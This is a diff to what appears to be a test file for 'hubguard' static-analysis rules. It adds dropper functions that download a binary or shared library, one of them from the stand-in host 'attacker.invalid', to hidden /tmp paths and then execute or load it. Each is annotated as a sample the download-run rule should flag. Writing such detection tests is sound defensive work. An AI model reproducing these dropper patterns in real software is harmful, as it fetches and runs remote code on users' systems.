@@ -1,3 +1,4 @@
+import ctypes
 import os
 import pickle
 import subprocess
@@ -23,6 +24,31 @@ def fetch_binary():
     os.chmod(path, 0o755)
     # ruleid: hubguard.download-execute
     subprocess.Popen([path])
+
+
+def dropper():
+    target = os.path.join("/tmp", ".cache-helper")
+    urllib.request.urlretrieve("https://attacker.invalid/helper", target)
+    # ruleid: hubguard.download-run-file
+    os.chmod(target, 0o755)
+    # ruleid: hubguard.download-run-file
+    subprocess.Popen([target, "--daemon"], stdout=subprocess.DEVNULL)
+
+
+def dropper_with_requests(url):
+    binary = "/tmp/.x"
+    response = requests.get(url, timeout=10)
+    with open(binary, "wb") as handle:
+        handle.write(response.content)
+    # ruleid: hubguard.download-run-file
+    os.system(binary + " &")
+
+
+def native_library(url):
+    library = "/tmp/libkernel.so"
+    open(library, "wb").write(requests.get(url, timeout=10).content)
+    # ruleid: hubguard.download-run-file
+    return ctypes.CDLL(library)
 
 
 def remote_pickle():
